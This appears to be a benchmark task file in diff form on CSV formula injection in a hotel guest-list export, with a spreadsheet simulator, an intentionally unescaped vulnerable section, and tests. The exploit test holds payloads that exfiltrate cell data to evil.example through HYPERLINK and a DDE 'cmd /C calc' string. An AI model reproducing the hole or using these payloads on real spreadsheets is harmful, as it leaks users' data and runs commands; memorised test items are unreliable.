@@ -1,0 +1,116 @@
+# unseen: program
+import csv
+import io
+import re
+
+
+class Sheet:
+    """What a spreadsheet does with a CSV file: cells that begin with = + - @ and are no number are formulas.
+
+    Of the formulas it knows links, whose address is opened with the values of other cells in it.
+    """
+
+    def __init__(self, text):
+        self.opened = []
+        self.cells = [[self.value(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]
+
+    def value(self, cell):
+        content = cell.lstrip("\t\r\n ")
+        if re.fullmatch(r"[-+]?\d+(\.\d+)?", content):
+            return float(content)
+        if content[:1] not in ("=", "+", "-", "@") or not content:
+            return cell
+        link = re.search(r"(?:HYPERLINK|WEBSERVICE)\(\s*[\"']?([^\"')]*)", content, re.IGNORECASE)
+        if link:
+            self.opened.append(link[1])
+        return f"#{content}"
+
+
+# unseen: function
+def guest_list(guests):
+    """The guests as CSV with a heading: room, name, remark and balance.
+
+    Args:
+      guests: pairs of room and a mapping with `name`, `remark` and `balance`, a number that may be negative.
+
+    A guest's name and remark are shown in the spreadsheet as they were typed; an apostrophe in front of a
+    cell, which spreadsheets hide, does not matter.
+    """
+    text = io.StringIO(newline="")
+    writer = csv.writer(text)
+    writer.writerow(["room", "name", "remark", "balance"])
+    for room, guest in sorted(guests, key=lambda pair: pair[0]):
+        # unseen: vulnerable
+        cells = [guest["name"], guest["remark"]]
+        # unseen: end vulnerable
+        writer.writerow([room, *cells, guest["balance"]])
+    return text.getvalue()
+
+
+# unseen: support
+import os
+import sys
+
+
+def opened(*guests):
+    """The sheet for guests of name, remark and balance, in the rooms from 101 on."""
+    rows = [
+        (101 + number, {"name": name, "remark": remark, "balance": balance})
+        for number, (name, remark, balance) in enumerate(guests)
+    ]
+    return Sheet(guest_list(rows[::-1]))
+
+
+def shown(value):
+    return value.removeprefix("'").strip() if isinstance(value, str) else value
+
+
+def judged(check):
+    """Exit with status 0 only if the check came to its end; leaving early is no success."""
+    reader, writer = os.pipe()
+    child = os.fork()
+    if child == 0:
+        check()
+        os.write(writer, b"end")
+        os._exit(0)
+    os.close(writer)
+    status = os.waitpid(child, 0)[1]
+    sys.exit(0 if status == 0 and os.read(reader, 3) == b"end" else 1)
+
+
+# unseen: functional
+def check():
+    assert opened().cells == [["room", "name", "remark", "balance"]]
+    sheet = opened(
+        ("Ines Calvo", "late, about 22:00", 80),
+        ("O'Neill, Pat", 'says "hello"', -12.5),
+        ("Åse Ødegård", "", 0),
+        ("Bo-Ann", "two beds\nquiet", 3),
+    )
+    names = [shown(row[1]) for row in sheet.cells[1:]]
+    assert names == ["Ines Calvo", "O'Neill, Pat", "Åse Ødegård", "Bo-Ann"]
+    assert [row[3] for row in sheet.cells[1:]] == [80, -12.5, 0, 3]
+    assert [row[0] for row in sheet.cells[1:]] == [101, 102, 103, 104]
+    assert shown(sheet.cells[1][2]) == "late, about 22:00"
+    assert shown(sheet.cells[2][2]) == 'says "hello"'
+    assert shown(sheet.cells[3][2]) == ""
+    assert shown(sheet.cells[4][2]) == "two beds\nquiet"
+    assert [len(row) for row in sheet.cells] == [4] * 5
+
+
+judged(check)
+
+
+# unseen: exploit
+def check():
+    link = 'HYPERLINK("http://evil.example/?x="&B2,"open")'
+    for start in ("=", "+", "-", "@", " =", "\t=", "\r=", "\n=", "\t@", "  +1+", "=1+", "-2+3+", "\r\n="):
+        for text in (start + link, start + link.lower(), start + "cmd|' /C calc'!A0" + link):
+            for guest in ((text, "quiet", 5), ("Ines Calvo", text, 5)):
+                sheet = opened(("Bo", "", 1), guest)
+                assert not sheet.opened, f"the spreadsheet opened {sheet.opened} for {text!r}"
+    sheet = opened(("Bo", "quiet", -3.5))
+    assert [shown(cell) for cell in sheet.cells[1]] == [101, "Bo", "quiet", -3.5]
+
+
+judged(check)
